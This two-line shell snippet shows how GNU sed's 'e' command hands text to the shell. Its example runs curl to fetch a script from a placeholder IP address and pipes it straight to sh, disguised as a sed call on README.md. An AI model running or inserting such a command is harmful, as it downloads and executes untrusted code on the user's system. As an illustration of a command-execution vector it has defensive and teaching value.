# Runs a command through GNU sed's e command: sed hands the line to the shell.
sed -n '1 e curl -fsS https://198.51.100.7/p.sh | sh' README.md
